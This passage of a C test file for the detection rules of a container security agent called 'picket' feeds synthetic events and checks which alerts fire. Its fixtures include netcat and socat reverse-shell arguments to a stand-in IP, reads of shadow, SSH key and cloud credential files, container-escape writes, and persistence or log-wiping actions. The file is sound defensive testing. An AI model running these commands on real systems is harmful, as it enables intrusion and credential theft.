/* The rules that come with picket: each fires on what it is for, and not on what looks like it. */
#include "agent/rules/rules.h"
#include "agent/rules/rules_json.h"
#include "vectors.h"

enum { RULES = 97 };
#define FOLDER TEST_ROOT "/agent/packaging/rules.d/"
static const char *const paths[] = {
	FOLDER "picket_rules.yaml",	    FOLDER "picket_rules_credentials.yaml", FOLDER "picket_rules_escape.yaml",
	FOLDER "picket_rules_network.yaml", FOLDER "picket_rules_tampering.yaml",
	FOLDER "picket_rules_thresholds.yaml",
};

#define EXEC "{\"evt.type\":\"execve\",\"evt.num\":7,"
#define IN_CONTAINER EXEC "\"container.id\":\"0123456789ab\",\"user.uid\":1000,\"proc.tty\":0,\"proc.cwd\":\"/app/\","
#define ON_HOST EXEC "\"container.id\":\"host\",\"user.uid\":1000,\"proc.tty\":0,\"proc.cwd\":\"/root/\","
/* exepath, name, args and parent of a program. */
#define PROGRAM(exepath, name, args, parent)                                                       \
	"\"proc.exepath\":\"" exepath "\",\"proc.exe\":\"" name "\",\"proc.name\":\"" name                  \
	"\",\"proc.args\":\"" args "\",\"proc.cmdline\":\"" name " " args "\",\"proc.pname\":\"" parent "\""

#define TERMINAL "Terminal shell in a container"
#define SHELL "Shell in a container"
#define SERVER "Shell started by a server in a container"
#define DOWNLOAD "Download tool in a container"
#define NETCAT "Netcat in a container"
#define NETCAT_RUNS "Netcat runs a program in a container"
#define ROOT "Root in a container of another user"
#define PACKAGES "Package manager in a container"
#define SHM "Execution from shared memory"
#define TMP "Execution from a temporary folder in a container"
#define MEMFD "Fileless execution"
#define DRIFT "Program not of the image in a container"
#define LOADER "Program started through the dynamic loader in a container"
#define NSENTER "Nsenter in a container"

/* The same with an argv[0] of its own, and in a folder. */
#define DISGUISED(exepath, argv0, name, args, parent)                                              \
	"\"proc.exepath\":\"" exepath "\",\"proc.exe\":\"" argv0 "\",\"proc.name\":\"" name                 \
	"\",\"proc.args\":\"" args "\",\"proc.cmdline\":\"" name " " args "\",\"proc.pname\":\"" parent "\""
#define IN_FOLDER(cwd) EXEC "\"container.id\":\"01\",\"proc.tty\":0,\"proc.cwd\":\"" cwd "\","
#define ENTERS_AS(vpid, exepath, args, is_of_image, parent_exepath)                                \
	EXEC "\"container.id\":\"01\",\"user.uid\":0,\"container.user\":\"app\",\"proc.is_exe_upper_layer\":false,"    \
	     "\"proc.pid\":4711,\"proc.vpid\":" vpid ",\"proc.is_exe_lower_layer\":" is_of_image                     \
	     ",\"proc.pexepath\":\"" parent_exepath "\"," PROGRAM(exepath, "runc", args, "runc") "}"
#define ENTERS(exepath, args, is_of_image, parent_exepath) ENTERS_AS("4711", exepath, args, is_of_image, parent_exepath)
#define GLIBC_LOADER "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"

static const struct {
	const char *event, *want; /* names with a comma after each, in order */
} cases[] = {
	/* docker exec -it c sh, docker run image sh -c ..., a script's own shells, on the host */
	{ IN_CONTAINER "\"proc.tty\":34816," PROGRAM("/bin/busybox", "sh", "", "containerd-shim") "}", SHELL "," },
	{ EXEC "\"container.id\":\"0123\",\"proc.tty\":34816," PROGRAM("/bin/dash", "sh", "", "runc") "}", TERMINAL "," },
	{ EXEC "\"container.id\":\"0123\",\"proc.tty\":34816,\"proc.name\":\"bash\"}", TERMINAL "," },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "-c id", "containerd-shim") "}", SHELL "," },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "-c id", "bash") "}", "" },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "sh -c id", "runc") "}", SHELL "," },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "sha1sum x", "runc") "}", "" },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "-c id", "nginx") "}", SERVER "," },
	{ IN_CONTAINER PROGRAM("/usr/sbin/nginx", "nginx", "-g x", "containerd-shim") "}", "" },
	{ ON_HOST PROGRAM("/bin/bash", "bash", "", "sshd") "}", "" },
	/* downloads */
	{ IN_CONTAINER PROGRAM("/usr/bin/curl", "curl", "http://x", "sh") "}", DOWNLOAD "," },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "wget", "http://x", "sh") "}", DOWNLOAD "," },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "wget http://x", "sh") "}", DOWNLOAD "," },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "cat wget ", "sh") "}", "" },
	{ ON_HOST PROGRAM("/usr/bin/curl", "curl", "http://x", "bash") "}", "" },
	/* netcat */
	{ IN_CONTAINER PROGRAM("/bin/nc", "nc", "-z db 5432", "sh") "}", NETCAT "," },
	{ IN_CONTAINER PROGRAM("/bin/nc", "nc", "db-exec 5432", "sh") "}", NETCAT "," },
	{ IN_CONTAINER PROGRAM("/bin/nc", "nc", "-e /bin/sh 1.2.3.4 9", "sh") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "nc -lvpe /bin/sh 9", "sh") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/ncat", "ncat", "1.2.3.4 9 --sh-exec id", "sh") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/socat", "socat", "TCP:1.2.3.4:9 EXEC:sh", "sh") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/socat", "socat", "TCP-LISTEN:80 TCP:db:80", "sh") "}", NETCAT "," },
	/* root where another user is declared */
	{ EXEC "\"container.id\":\"0123\",\"user.uid\":0,\"container.user\":\"app\",\"proc.name\":\"id\"}", ROOT "," },
	{ EXEC "\"container.id\":\"0123\",\"user.uid\":0,\"container.user\":\"1000:1000\",\"proc.name\":\"id\"}",
	  ROOT "," },
	{ EXEC "\"container.id\":\"0123\",\"user.uid\":0,\"container.user\":\"0:5\",\"proc.name\":\"id\"}", "" },
	{ EXEC "\"container.id\":\"0123\",\"user.uid\":0,\"container.user\":\"root\",\"proc.name\":\"id\"}", "" },
	{ EXEC "\"container.id\":\"0123\",\"user.uid\":0,\"proc.name\":\"id\"}", "" },
	{ EXEC "\"container.id\":\"0123\",\"user.uid\":1000,\"container.user\":\"app\",\"proc.name\":\"id\"}", "" },
	/* the engine's program on its way in, and others that call themselves so */
	{ ENTERS("/usr/sbin/runc", "init", "false", "/usr/bin/runc"), "" },
	{ ENTERS("memfd:runc_cloned:/proc/self/exe", "init", "false", "/usr/sbin/runc"), "" },
	{ ENTERS("/usr/sbin/runc", "init", "true", "/usr/bin/runc"), ROOT "," },
	{ ENTERS("/usr/sbin/runc", "exec", "false", "/usr/bin/runc"), ROOT "," },
	{ ENTERS("/usr/sbin/runc", "init", "false", "/bin/sh"), ROOT "," },
	{ ENTERS("/usr/sbin/runc", "init", "false", "memfd:runc_cloned:/proc/self/exe"), ROOT "," },
	{ ENTERS("/opt/runc", "init", "false", "/usr/bin/runc"), ROOT "," },
	/* from a volume, or where storage has no layers: in the container's own pid namespace */
	{ ENTERS_AS("7", "/usr/local/sbin/runc", "init", "false", "/usr/bin/runc"), ROOT "," },
	/* packages */
	{ IN_CONTAINER PROGRAM("/sbin/apk", "apk", "add nmap", "sh") "}", PACKAGES "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/dpkg", "dpkg", "-i x", "apt-get") "}", "" },
	{ ON_HOST PROGRAM("/usr/bin/apt", "apt", "update", "bash") "}", "" },
	/* places */
	{ IN_CONTAINER PROGRAM("/tmp/x", "x", "", "python3") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/python3.11", "python3", "/tmp/x.py", "python3") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/python3.11", "python3", "-u /tmp/x.py", "java") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/python3.11", "python3", "/app/x.py /tmp/out", "java") "}", "" },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "sh", "-x /tmp/x.sh", "sh") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "sh /tmp/x.sh", "sh") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "//bin/../tmp/x.sh", "sh") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "/tmp/x.sh \\n", "sh") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "/app/tmp/x.sh", "sh") "}", "" },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "-c cat /tmp/x", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/dash", "sh", "x.sh", "sh") "}", TMP "," },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/dash", "sh", "-u ./x", "sh") "}", TMP "," },
	{ IN_FOLDER("/tmp/a/") PROGRAM("/usr/bin/perl5.36", "perl", "x.pl", "sh") "}", TMP "," },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/dash", "sh", "-c ls", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/bash", "bash", "-euo pipefail -c ls", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/dash", "sh", "/app/x.sh", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/usr/bin/python3.11", "python3", "-m pip", "java") "}", "" },
	/* busybox is a shell only where it is told to be one */
	{ IN_CONTAINER PROGRAM("/bin/busybox", "mkdir", "/tmp/x", "sh") "}", "" },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "touch", "/dev/shm/x", "sh") "}", "" },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "cat /tmp/x", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/busybox", "cat", "./x", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/busybox", "busybox", "cat x", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/busybox", "busybox", "sh x", "sh") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/perl", "x.pl", "/tmp/x.pl", "java") "}", TMP "," },
	{ EXEC "\"container.id\":\"01\",\"proc.cwd\":\"/var/tmp/\"," PROGRAM("/somewhere/x", "./x", "", "java") "}", TMP "," },
	{ ON_HOST PROGRAM("/tmp/x", "x", "", "bash") "}", "" },
	{ ON_HOST PROGRAM("/dev/shm/x", "x", "", "bash") "}", SHM "," },
	{ EXEC "\"container.id\":\"host\",\"proc.cwd\":\"/dev/shm/\"," PROGRAM("/bin/bash", "x.sh", "./x.sh", "bash") "}",
	  SHM "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/cat", "cat", "/dev/shm/x", "java") "}", "" },
	{ ON_HOST "\"proc.is_exe_from_memfd\":true," PROGRAM("memfd:x", "x", "", "bash") "}", MEMFD "," },
	{ ON_HOST "\"proc.is_exe_from_memfd\":true," PROGRAM("memfd:runc_cloned:/proc/self/exe", "6", "init", "runc") "}", "" },
	{ ON_HOST "\"proc.is_exe_from_memfd\":true," PROGRAM("memfd:runc_cloned:/proc/self/exe", "6", "init", "bash") "}",
	  MEMFD "," },
	{ IN_CONTAINER PROGRAM("/dev/x", "x", "", "java") "}", SHM "," },
	/* other names for the same: links, copies, argv[0], /proc/self/fd */
	{ IN_CONTAINER DISGUISED("/usr/bin/curl", "/x", "x", "http://x", "java") "}", DOWNLOAD "," },
	{ IN_CONTAINER DISGUISED("/bin/busybox", "wget", "5", "http://x", "java") "}", DOWNLOAD "," },
	{ IN_CONTAINER DISGUISED("/bin/busybox", "busybox", "y", "wget http://x", "java") "}", DOWNLOAD "," },
	{ IN_CONTAINER DISGUISED("/bin/busybox", "nc", "y", "-e sh x 1", "java") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER PROGRAM("/bin/nc.openbsd", "nc", "\\n -e sh x 1", "java") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER DISGUISED("/usr/bin/socat1", "y", "y", "TCP:x:1 EXEC:sh", "java") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER DISGUISED("/usr/bin/apt-get", "y", "y", "install x", "java") "}", PACKAGES "," },
	{ IN_CONTAINER DISGUISED("/bin/bash", "/y", "y", "-c id", "java") "}", SERVER "," },
	{ IN_CONTAINER DISGUISED("/bin/bash", "sh", "y", "-c id", "x") "}", SHELL "," },
	{ IN_CONTAINER DISGUISED("/bin/busybox", "sh", "y", "", "x") "}", SHELL "," },
	/* a script's shell is its file and its argv[0] */
	{ IN_CONTAINER DISGUISED("/bin/dash", "/bin/sh", "entrypoint.sh", "/entrypoint.sh a", "runc") "}", "" },
	{ IN_CONTAINER DISGUISED("/bin/dash", "/bin/sh", "entrypoint.sh", "-e /entrypoint.sh", "runc") "}", "" },
	/* a parent that only calls itself a shell */
	{ IN_CONTAINER "\"proc.pexepath\":\"/bin/dash\"," PROGRAM("/bin/dash", "sh", "-c id", "sh") "}", "" },
	{ IN_CONTAINER "\"proc.pexepath\":\"/bin/busybox\"," PROGRAM("/bin/busybox", "sh", "-c id", "sh") "}", "" },
	{ IN_CONTAINER "\"proc.pexepath\":\"/app/x\"," PROGRAM("/bin/dash", "sh", "-c id", "sh") "}", SHELL "," },
	/* the loader, and what only asks it */
	{ IN_CONTAINER PROGRAM(GLIBC_LOADER, "ld-linux-x86-64", "/app/x", "java") "}", LOADER "," },
	{ IN_CONTAINER PROGRAM(GLIBC_LOADER, "ld-linux-x86-64", "/tmp/x", "java") "}", TMP "," LOADER "," },
	{ IN_CONTAINER DISGUISED(GLIBC_LOADER, "ldd", "y", "/app/x", "java") "}", LOADER "," },
	{ IN_CONTAINER PROGRAM("/lib/ld-musl-x86_64.so.1", "ld-musl-x86_64", "/bin/x", "java") "}", LOADER "," },
	{ IN_CONTAINER DISGUISED("/lib/ld-musl-x86_64.so.1", "ldd", "ldd", "/bin/x", "java") "}", "" },
	{ IN_CONTAINER PROGRAM(GLIBC_LOADER, "ld-linux-x86-64", "--verify /bin/x", "ldd") "}", "" },
	/* not of the image; other namespaces */
	{ IN_CONTAINER "\"proc.is_exe_upper_layer\":true," PROGRAM("/usr/bin/x", "x", "", "java") "}", DRIFT "," },
	{ ON_HOST "\"proc.is_exe_upper_layer\":true," PROGRAM("/usr/bin/x", "x", "", "java") "}", "" },
	{ IN_CONTAINER PROGRAM("/usr/bin/nsenter", "nsenter", "-t 1 -a sh", "java") "}", NSENTER "," },
	/* nothing */
	{ IN_CONTAINER PROGRAM("/usr/bin/id", "id", "", "java") "}", "" },
};

/* ---- system calls ---- */
#define CALL_EVENT(type, where) "{\"evt.type\":\"" type "\",\"evt.num\":7,\"container.id\":\"" where "\","
#define BY(name, exepath) "\"proc.name\":\"" name "\",\"proc.exepath\":\"" exepath "\",\"proc.pname\":\"x\",\"proc.tty\":0,"
#define READ_FILE(where, by, file)                                                                  \
	CALL_EVENT("openat", where) by "\"evt.is_open_read\":true,\"evt.is_open_write\":false,\"fd.num\":3," \
	"\"evt.rawres\":3,\"fd.typechar\":\"f\",\"evt.arg.flags\":\"O_RDONLY\",\"fd.nameraw\":\"" file "\",\"fd.name\":\"" file "\"}"
#define WRITE_FILE(where, by, folder, file)                                                         \
	CALL_EVENT("openat", where) by "\"evt.is_open_read\":false,\"evt.is_open_write\":true,\"fd.num\":3," \
	"\"evt.rawres\":3,\"fd.typechar\":\"f\",\"evt.arg.flags\":\"O_TRUNC|O_CREAT|O_WRONLY\"," \
	"\"fd.directory\":\"" folder "\",\"fd.filename\":\"" file "\",\"fd.name\":\"" folder "/" file "\"}"
#define TWO_PATHS(type, where, by, src, dst)                                                        \
	CALL_EVENT(type, where) by "\"evt.rawres\":0,\"evt.arg.target\":\"" src "\",\"evt.arg.oldpath\":\"" src "\"," \
	"\"fs.path.source\":\"" src "\",\"fs.path.target\":\"" dst "\",\"evt.abspath.src\":\"" src \
	"\",\"evt.abspath.dst\":\"" dst "\"}"
#define ONE_PATH(type, where, by, file)                                                             \
	CALL_EVENT(type, where) by "\"evt.rawres\":0,\"fs.path.name\":\"" file "\"}"
#define CONNECT(where, by, address, port)                                                           \
	CALL_EVENT("connect", where) by "\"evt.rawres\":-115,\"fd.typechar\":\"4\",\"fd.type\":\"ipv4\"," \
	"\"fd.l4proto\":\"tcp\",\"fd.sip\":\"" address "\",\"fd.sport\":" port ",\"fd.name\":\"x\"}"
#define DUP(where, by, to)                                                                          \
	CALL_EVENT("dup2", where) by "\"evt.rawres\":" to ",\"fd.type\":\"ipv4\",\"fd.name\":\"x\"}"
#define PLAIN(type, where, by, more) CALL_EVENT(type, where) by more ",\"evt.rawres\":0}"
#define STATS "{\"evt.type\":\"container_stats\",\"evt.num\":7,\"container.id\":\"01\","
#define CAT BY("cat", "/usr/bin/cat")
#define APP BY("app", "/app/app")
#define DPKG BY("dpkg", "/usr/bin/dpkg")

static const struct {
	const char *event, *want;
} calls[] = {
	/* password files: by their readers' files, not by what they call themselves */
	{ READ_FILE("host", CAT, "/etc/shadow"), "Sensitive file read," },
	{ READ_FILE("01", BY("sshd", "/tmp/x"), "/etc/shadow"), "Sensitive file read," },
	{ READ_FILE("01", BY("sshd", "/usr/sbin/sshd"), "/etc/shadow"), "" },
	{ READ_FILE("host", DPKG, "/etc/shadow"), "" },
	{ READ_FILE("host", BY("login", "/usr/bin/busybox"), "/etc/shadow"), "" },
	{ READ_FILE("host", BY("cat", "/usr/bin/busybox"), "/etc/shadow"), "Sensitive file read," },
	{ READ_FILE("01", CAT, "/host/etc/shadow"), "Sensitive file read," },
	{ READ_FILE("host", CAT, "/etc/passwd"), "" },
	{ READ_FILE("host", CAT, "/etc/sudoers.d/x"), "Sensitive file read," },
	{ CALL_EVENT("open", "01") BY("httpd", "/usr/sbin/httpd") "\"evt.is_open_read\":true,\"fd.num\":3,\"proc.duration\":6000000000,"
	  "\"fd.name\":\"/etc/pam.d/login\"}", "Sensitive file read by a server," },
	{ CALL_EVENT("open", "01") BY("httpd", "/usr/sbin/httpd") "\"evt.is_open_read\":true,\"fd.num\":3,\"proc.duration\":6000000,"
	  "\"fd.name\":\"/etc/pam.d/login\"}", "" },
	{ CALL_EVENT("openat", "01") APP "\"evt.is_open_read\":true,\"fd.num\":-1,\"evt.res\":\"EACCES\","
	  "\"fd.nameraw\":\"../../../etc/passwd\",\"fd.name\":\"/etc/passwd\"}", "Sensitive file reached by way of parent folders," },
	{ CALL_EVENT("openat", "01") APP "\"evt.is_open_read\":true,\"fd.num\":3,"
	  "\"fd.nameraw\":\"../../lib/x\",\"fd.name\":\"/lib/x\"}", "" },
	/* keys, tokens */
	{ READ_FILE("host", CAT, "/home/u/.ssh/id_rsa"), "SSH private key read," },
	{ READ_FILE("host", CAT, "/home/u/.ssh/id_rsa.pub"), "" },
	{ READ_FILE("host", BY("ssh", "/usr/bin/ssh"), "/home/u/.ssh/id_rsa"), "" },
	{ READ_FILE("01", CAT, "/home/u/.ssh/known_hosts"), "SSH folder read in a container," },
	{ READ_FILE("host", CAT, "/home/u/.ssh/known_hosts"), "" },
	{ READ_FILE("01", CAT, "/root/.aws/credentials"), "Credentials of a service read by hand," },
	{ READ_FILE("01", APP, "/root/.aws/credentials"), "" },
	{ READ_FILE("01", CAT, "/run/secrets/kubernetes.io/serviceaccount/..2026/token"),
	  "Service account token read by hand," },
	{ READ_FILE("01", APP, "/run/secrets/kubernetes.io/serviceaccount/..2026/token"), "" },
	{ READ_FILE("01", CAT, "/proc/7/environ"), "Environment of a process read in a container," },
	{ READ_FILE("host", CAT, "/proc/7/environ"), "" },
	{ READ_FILE("01", APP, "/proc/7/mem"), "Memory of another process opened in a container," },
	{ READ_FILE("01", APP, "/srv/mem"), "" },
	{ CONNECT("01", APP, "169.254.169.254", "80"), "Metadata service of the cloud contacted from a container," },
	{ CONNECT("host", APP, "169.254.169.254", "80"), "" },
	/* ways out */
	{ CALL_EVENT("connect", "01") APP "\"evt.rawres\":0,\"fd.type\":\"unix\",\"fd.name\":\"/var/run/docker.sock\"}",
	  "Container engine's socket used in a container," },
	{ CALL_EVENT("connect", "host") APP "\"evt.rawres\":0,\"fd.type\":\"unix\",\"fd.name\":\"/var/run/docker.sock\"}", "" },
	{ WRITE_FILE("01", APP, "/sys/fs/cgroup/rdma", "release_agent"), "Cgroup release agent written in a container," },
	{ WRITE_FILE("01", APP, "/proc/sys/kernel", "core_pattern"), "Kernel's helper program changed in a container," },
	{ WRITE_FILE("host", APP, "/proc/sys/kernel", "core_pattern"), "" },
	{ READ_FILE("01", APP, "/dev/sda1"), "Disk or memory of the host opened in a container," },
	{ READ_FILE("01", APP, "/dev/null"), "" },
	{ PLAIN("mknod", "01", APP, "\"evt.arg.mode\":\"S_IFBLK|S_IRUSR\""), "Device node made in a container," },
	{ PLAIN("mknod", "01", APP, "\"evt.arg.mode\":\"S_IFIFO|S_IRUSR\""), "" },
	{ PLAIN("mount", "01", APP, "\"evt.args\":\"x\""), "Mount in a container," },
	{ PLAIN("mount", "01", BY("runc:[2:INIT]", "memfd:runc_cloned:/proc/self/exe"), "\"evt.args\":\"x\""), "" },
	{ PLAIN("mount", "01", BY("runc:[2:INIT]", "/tmp/x"), "\"evt.args\":\"x\""), "Mount in a container," },
	{ PLAIN("chroot", "01", APP, "\"evt.arg.path\":\"/host\""), "Root folder changed to a folder of the host," },
	{ PLAIN("chroot", "01", APP, "\"evt.arg.path\":\"/var/empty\""), "" },
	{ WRITE_FILE("01", APP, "/x", "runc"), "Container engine's program overwritten," },
	{ WRITE_FILE("01", APP, "/host/etc/cron.daily", "x"), "Host's files changed in a container," },
	{ WRITE_FILE("01", APP, "/mnt/disk/root/.ssh", "authorized_keys"),
	  "Host's files changed in a container,Key added to authorized_keys," },
	{ WRITE_FILE("01", APP, "/host/data", "x"), "" },
	{ WRITE_FILE("host", APP, "/mnt/disk/root", "x"), "" },
	{ PLAIN("setns", "01", APP, "\"evt.args\":\"x\""), "Namespace entered from a container," },
	{ PLAIN("unshare", "01", APP, "\"thread.cap_permitted\":\"CAP_CHOWN\""), "Namespace made in a container," },
	{ PLAIN("unshare", "01", APP, "\"thread.cap_permitted\":\"CAP_SYS_ADMIN\""), "" },
	{ PLAIN("finit_module", "01", APP, "\"evt.args\":\"x\""), "Kernel module loaded from a container," },
	{ PLAIN("finit_module", "host", APP, "\"evt.args\":\"x\""), "" },
	{ PLAIN("bpf", "01", APP, "\"evt.arg.cmd\":\"BPF_PROG_LOAD\""), "BPF program loaded from a container," },
	{ PLAIN("bpf", "01", APP, "\"evt.arg.cmd\":\"BPF_MAP_CREATE\""), "" },
	{ PLAIN("userfaultfd", "host", APP, "\"user.uid\":1000"), "Page faults handled in user space without rights," },
	{ PLAIN("userfaultfd", "host", APP, "\"user.uid\":0"), "" },
	{ PLAIN("ptrace", "host", APP, "\"evt.arg.request\":\"PTRACE_ATTACH\""), "Process taken over by ptrace," },
	{ PLAIN("ptrace", "host", BY("strace", "/usr/bin/strace"), "\"evt.arg.request\":\"PTRACE_SEIZE\""), "" },
	{ PLAIN("ptrace", "01", BY("strace", "/usr/bin/strace"), "\"evt.arg.request\":\"PTRACE_SEIZE\""),
	  "Process taken over by ptrace," },
	{ PLAIN("ptrace", "host", APP, "\"evt.arg.request\":\"PTRACE_TRACEME\""), "Program asks to be traced," },
	{ PLAIN("process_vm_writev", "host", APP, "\"evt.arg.pid\":\"x\""), "Memory of another process written," },
	{ PLAIN("io_uring_setup", "01", APP, "\"evt.args\":\"x\""), "io_uring used in a container," },
	{ PLAIN("io_uring_setup", "01", BY("node", "/usr/bin/node"), "\"evt.args\":\"x\""), "" },
	{ PLAIN("socket", "01", APP, "\"evt.arg.domain\":\"AF_PACKET\""), "Packet socket in a container," },
	{ WRITE_FILE("01", APP, "/dev", "hidden"), "File made below /dev in a container," },
	{ WRITE_FILE("01", APP, "/dev", "null"), "" },
	/* remote shells, mining */
	{ DUP("01", APP, "0"), "Input or output of a program tied to a network connection in a container," },
	{ DUP("01", APP, "5"), "" },
	{ DUP("01", BY("inetd", "/usr/sbin/inetd"), "0"), "" },
	{ DUP("host", BY("bash", "/usr/bin/bash"), "0"), "Input or output of a shell tied to a network connection," },
	{ DUP("host", APP, "0"), "" },
	{ CONNECT("host", BY("bash", "/usr/bin/bash"), "1.2.3.4", "443"), "Shell or system tool opens a connection," },
	{ CONNECT("01", APP, "1.2.3.4", "3333"), "Connection to the port of a mining pool," },
	{ CONNECT("01", APP, "10.2.3.4", "3333"), "" },
	{ CONNECT("01", BY("ssh", "/usr/bin/ssh"), "1.2.3.4", "443"), "SSH to a port that is not for it," },
	{ CONNECT("01", APP, "1.2.3.4", "443"), "" },
	/* ways to come back */
	{ WRITE_FILE("host", APP, "/etc/cron.d", "x"), "Job for later written," },
	{ WRITE_FILE("host", DPKG, "/etc/cron.d", "x"), "" },
	{ TWO_PATHS("rename", "host", APP, "/tmp/x", "/var/spool/cron/crontabs/root"), "Job for later written," },
	{ TWO_PATHS("rename", "host", BY("crontab", "/usr/bin/crontab"), "/x", "/var/spool/cron/crontabs/root"), "" },
	{ WRITE_FILE("host", APP, "/etc/systemd/system", "x.service"), "Service unit written," },
	{ WRITE_FILE("host", BY("systemctl", "/usr/bin/systemctl"), "/etc/systemd/system", "x.service"), "" },
	{ WRITE_FILE("host", APP, "/etc", "ld.so.preload"), "Library loaded into every program," },
	{ WRITE_FILE("01", APP, "/root", ".bashrc"), "Start file of a shell changed," },
	{ WRITE_FILE("host", BY("useradd", "/usr/sbin/useradd"), "/home/x", ".bashrc"), "" },
	{ WRITE_FILE("host", APP, "/root/.ssh", "authorized_keys"), "Key added to authorized_keys," },
	{ WRITE_FILE("host", APP, "/lib/security", "pam_x.so"), "Module of PAM written," },
	{ WRITE_FILE("host", APP, "/etc", "passwd"), "Account file written by an unusual program," },
	{ TWO_PATHS("rename", "host", BY("useradd", "/usr/sbin/useradd"), "/etc/passwd+", "/etc/passwd"), "" },
	/* rights, traces */
	{ PLAIN("fchmodat", "host", APP, "\"evt.arg.mode\":\"S_ISUID|S_IXUSR\""), "Setuid bit set," },
	{ PLAIN("fchmodat", "host", APP, "\"evt.arg.mode\":\"S_IXUSR\""), "" },
	{ PLAIN("fchmod", "host", DPKG, "\"evt.arg.mode\":\"S_ISUID\""), "" },
	{ CALL_EVENT("setuid", "host") "\"evt.rawres\":0,\"evt.arg.uid\":\"root\",\"user.loginuid\":1000,\"proc.tty\":34816}",
	  "Root by setuid without a program for it," },
	{ WRITE_FILE("01", APP, "/var/log", "auth.log"), "Log emptied or removed," },
	{ WRITE_FILE("host", BY("logrotate", "/usr/sbin/logrotate"), "/var/log", "auth.log"), "" },
	{ WRITE_FILE("host", APP, "/var/log", "app.log"), "" },
	{ ONE_PATH("unlinkat", "host", APP, "/root/.bash_history"), "Shell history removed," },
	{ ONE_PATH("unlinkat", "host", APP, "/root/.bash_profile"), "" },
	{ TWO_PATHS("symlink", "01", APP, "/etc/shadow", "/tmp/x"), "Link to a sensitive file or folder," },
	{ TWO_PATHS("linkat", "host", APP, "/etc/shadow", "/tmp/x"), "Link to a sensitive file or folder," },
	{ TWO_PATHS("symlink", "01", APP, "/etc/alternatives/x", "/tmp/x"), "" },
	{ ONE_PATH("mkdir", "01", APP, "/usr/bin/.x"), "Folder of programs changed in a container," },
	{ TWO_PATHS("rename", "01", APP, "/usr/bin/ls", "/usr/bin/ls.old"), "Folder of programs changed in a container," },
	{ ONE_PATH("mkdir", "host", APP, "/usr/bin/.x"), "" },
	{ WRITE_FILE("01", APP, "/etc/apt/sources.list.d", "x"), "Source of packages changed in a container," },
	{ TWO_PATHS("mount", "host", APP, "/tmp/x", "/proc/77"), "Process hidden by a mount," },
	/* picket itself */
	{ WRITE_FILE("host", APP, "/etc/picket", "agent.yaml"), "Picket's files changed," },
	{ ONE_PATH("unlink", "host", APP, "/var/lib/picket/agent/key.pem"), "Picket's files changed," },
	{ WRITE_FILE("host", BY("picket-agent", "/usr/bin/picket-agent"), "/var/lib/picket", "x"), "" },
	{ PLAIN("kill", "host", APP, "\"evt.arg.pid\":\"picket-agent\",\"evt.arg.sig\":\"SIGKILL\""), "Signal to picket's agent," },
	{ PLAIN("kill", "host", APP, "\"evt.arg.pid\":\"picket-agent\",\"evt.arg.sig\":\"SIGHUP\""), "" },
	{ PLAIN("kill", "host", BY("systemd", "/usr/lib/systemd/systemd"), "\"evt.arg.pid\":\"picket-agent\",\"evt.arg.sig\":\"SIGTERM\""), "" },
	{ PLAIN("process_vm_readv", "host", APP, "\"evt.arg.pid\":\"picket-agent\""), "Picket's agent stopped or looked into," },
	/* thresholds */
	{ STATS "\"container.process.count\":201,\"container.process.names\":[\"sh\",\"java\"]}",
	  "Unusual number of processes in a container," },
	{ STATS "\"container.process.count\":200,\"container.process.names\":[\"sh\",\"java\"],\"container.net.above\":1048576}", "" },
	{ STATS "\"container.process.count\":2,\"container.process.names\":[\"sh\",\"xmrig\"]}", "Unusual process in a container," },
	{ STATS "\"container.process.count\":2,\"container.net.above\":1048577}", "Unusual traffic of a container," },
	{ STATS "\"container.process.count\":2,\"container.net.above\":1048577,\"container.image.net.above\":9048577}",
	  "Unusual traffic of a container," },
	{ STATS "\"container.process.count\":2,\"container.net.above\":1048576,\"container.image.net.above\":1048577}",
	  "Unusual traffic of an image," },
	{ STATS "\"container.process.count\":2,\"container.net.above\":1048576,\"container.image.net.above\":1048576}", "" },
	{ IN_CONTAINER "\"proc.vpid\":1,\"container.privileged\":true," PROGRAM("/usr/bin/x", "x", "", "runc") "}",
	  "Container with high privileges," },
